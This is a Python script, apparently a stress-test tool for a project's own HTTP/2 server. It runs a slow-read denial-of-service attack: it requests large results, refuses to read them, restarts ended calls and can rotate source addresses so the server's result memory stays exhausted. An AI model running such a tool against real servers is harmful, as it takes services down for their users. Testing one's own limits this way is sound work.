#!/usr/bin/env python3
"""A caller that asks for large results and reads none: it wants all the memory that the server has for results.

  unread.py --target 127.0.0.1:PORT [--source 127.0.0.2] [--method stream|unary] [--connections N]
            [--addresses N] [--how window|socket]

It sends 45 small pieces (or calls), whose results and what is computed for them add up to --bytes, and then, twice a
second, one of each size for what is left. With --how window it gives the server no HTTP/2 window for results; with
--how socket it leaves what comes in its socket. What the server ends it begins again. --addresses N: its connections
come from N addresses, --source and those after it. Prints "holding" once the 45 have been sent, and at the end a line
of JSON: "begun" streams or calls, and how many the server "ended".
"""

from __future__ import annotations

import argparse
import ipaddress
import itertools
import json
import signal
import time

import http2
import messages

PIECES = 45
VALUE_DIM = 4096
FILLERS = tuple(1 << shift for shift in range(26, 10, -1))
ROUND_SECONDS = 0.5
SOCKET_SECONDS = 5


def large(total: int) -> messages.Call:
    """One of PIECES calls with large results that take about `total` bytes in all."""
    queries = (total // PIECES - 2 * VALUE_DIM - 64) // (4 * VALUE_DIM + 2)
    return messages.Call(queries=queries, value_dim=VALUE_DIM, output_dtype=messages.FP32)


def filler(size: int) -> messages.Call:
    value_dim = min(VALUE_DIM, size // 64)
    return messages.Call(queries=size // (4 * value_dim), value_dim=value_dim, output_dtype=messages.FP32)


class Share:
    """Calls over one connection, or one after another where nothing is read, and what became of them."""

    ids = itertools.count(1)

    def __init__(self, options: argparse.Namespace, calls: list[messages.Call], source: str | None):
        self.options = options
        self.calls = calls
        self.source = source
        self.connection = self.connect()
        self.kept: list[http2.Connection] = []
        self.streams: list[http2.Stream] = []
        self.begun = self.ended = self.lost = 0

    def connect(self) -> http2.Connection:
        window = http2.LARGEST_WINDOW if self.options.how == "socket" else 0
        return http2.Connection(self.options.target, self.source, window)

    def begin(self, calls: list[messages.Call]) -> None:
        """Sends calls, beside those that are under way."""
        if self.connection.closed or self.connection.goaway:
            self.connection = self.connect()
        elif self.begun and self.options.how == "socket":
            self.kept.append(self.connection)  # with what it has not read
            self.connection = self.connect()
        connection = self.connection
        if self.options.method == "stream":
            opened = [connection.open(messages.STREAM)]
            for call in calls:
                connection.send(opened[0], call.piece(next(self.ids)))
        else:
            opened = [connection.open(messages.COMPUTE) for _ in calls]
            for stream, call in zip(opened, calls):
                connection.send(stream, call.message(), end=True)
        self.streams += opened
        self.begun += len(opened)
        connection.pump_until(connection.sent, 5)  # the server says meanwhile how much more it takes

    def begin_all(self) -> None:
        self.lost = 0
        self.begin(self.calls)

    def begin_lost(self) -> None:
        """What the server has ended, once more."""
        lost, self.lost = self.lost, 0
        if lost:
            self.begin(self.calls if self.options.method == "stream" else self.calls[:lost])

    def pump(self, seconds: float) -> None:
        if self.options.how == "socket":
            time.sleep(seconds)
            return
        self.connection.pump(seconds)
        ended = [stream for stream in self.streams if stream.closed]
        for stream in ended:
            self.streams.remove(stream)
            self.connection.streams.pop(stream.id, None)
        self.ended += len(ended)
        self.lost += len(ended)


class Attack:
    def __init__(self, options: argparse.Namespace):
        self.options = options
        calls = [large(options.bytes)] * PIECES
        every = range(options.connections)
        self.shares = [Share(options, calls[i :: len(every)], self.source(i)) for i in every]
        self.filler = Share(options, [filler(size) for size in FILLERS], self.source(0))

    def source(self, connection: int) -> str | None:
        if self.options.source is None:
            return None
        return str(ipaddress.ip_address(self.options.source) + connection % self.options.addresses)

    def run(self) -> None:
        for share in self.shares:
            share.begin_all()
        print("holding", flush=True)
        begun = time.monotonic()
        end = begun + self.options.seconds
        while time.monotonic() < end:
            self.filler.begin_all()
            next_round = time.monotonic() + ROUND_SECONDS
            while time.monotonic() < next_round:
                for share in [*self.shares, self.filler]:
                    share.pump(0.05 / len(self.shares))
            # Where nothing is read nothing is known of ends: everything is sent once more from time to time.
            again = self.options.how == "socket" and time.monotonic() - begun > SOCKET_SECONDS
            if again:
                begun = time.monotonic()
            for share in self.shares:
                if again:
                    share.begin_all()
                else:
                    share.begin_lost()

    def report(self) -> dict[str, int]:
        every = [*self.shares, self.filler]
        return {"begun": sum(share.begun for share in every), "ended": sum(share.ended for share in every)}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--target", required=True, help="host:port or unix:path")
    parser.add_argument("--source", help="the address to call from")
    parser.add_argument("--addresses", type=int, default=1)
    parser.add_argument("--method", choices=("stream", "unary"), default="stream")
    parser.add_argument("--how", choices=("window", "socket"), default="window")
    parser.add_argument("--connections", type=int, default=1)
    parser.add_argument("--bytes", type=int, default=1 << 30, help="what to take: the server's --max_inflight_bytes")
    parser.add_argument("--seconds", type=float, default=30)
    options = parser.parse_args()
    attack = Attack(options)
    signal.signal(signal.SIGTERM, lambda *_: (_ for _ in ()).throw(SystemExit))
    try:
        attack.run()
    finally:
        print(json.dumps(attack.report()), flush=True)


if __name__ == "__main__":
    main()
